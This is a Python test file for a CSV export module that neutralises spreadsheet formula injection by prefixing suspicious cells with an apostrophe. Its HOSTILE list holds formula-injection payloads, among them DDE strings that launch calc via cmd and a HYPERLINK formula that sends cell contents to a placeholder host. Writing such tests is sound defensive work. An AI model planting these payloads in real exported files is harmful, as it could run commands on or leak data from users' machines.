"""CSV that Excel opens, programs read, and nothing runs from."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.opendata import csvfile
from generator.opendata.tables import Column
from tests.opendata.making import csv_of, in_csv, record_of

COLUMNS = (Column("值", ""), Column("别的", ""))
HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid?"&A1,"看")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋86",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "'",
    "-",
    "-1.5.2",
    "+86 739",
]
HARMLESS = ["-5", "-5.20", "-5.2%", "0", "704.70", "说明=1", '他说"好"', "一,二", "一\n二", "a=b"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_looks_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert csvfile.safe(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_and_numbers_stay(text: str) -> None:
    assert csvfile.safe(text) == text


@pytest.mark.parametrize("text", HOSTILE + HARMLESS)
def test_a_hostile_value_of_a_record_comes_back(tmp_path: Path, text: str) -> None:
    if "\r" in text or text.strip() != text:
        pytest.skip("no record has it")
    row = in_csv(csv_of(record_of(tmp_path, {"说明": text})))[3]
    assert row["值"] == csvfile.safe(text)


@given(
    st.lists(st.tuples(st.text(st.characters(codec="utf-8")), st.text(alphabet="=+-@'\"\r\n,a1")))
)
def test_texts_come_back(rows: list[tuple[str, str]]) -> None:
    file = csvfile.head(COLUMNS) + csvfile.lines(rows)
    found = [tuple(row) for row in csvfile.rows_of(file)][1:]
    assert found == rows
    outer = list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))
    assert not any(
        csvfile._FORMULA.match(cell) and cell[0] != "'"
        for row in outer
        for cell in row
        if not csvfile._NUMBER.fullmatch(cell)
    )


def test_files_have_a_mark_and_line_ends_of_windows() -> None:
    file = csvfile.head(COLUMNS) + csvfile.lines([("一\n二", '"')])
    assert file == b"\xef\xbb\xbf" + '值,别的\r\n"一\n二",""""\r\n'.encode()


def test_files_are_joined_below_one_head() -> None:
    head = csvfile.head(COLUMNS)
    one, two = csvfile.lines([("1", "2")]), csvfile.lines([("3", "4")])
    assert b"".join(csvfile.joined(COLUMNS, [head + one, head + two])) == head + one + two
    assert b"".join(csvfile.joined(COLUMNS, [])) == head


def test_half_a_pair_of_utf_16_is_no_error() -> None:
    assert csvfile.lines([("\ud800", "")]) == b"?,\r\n"
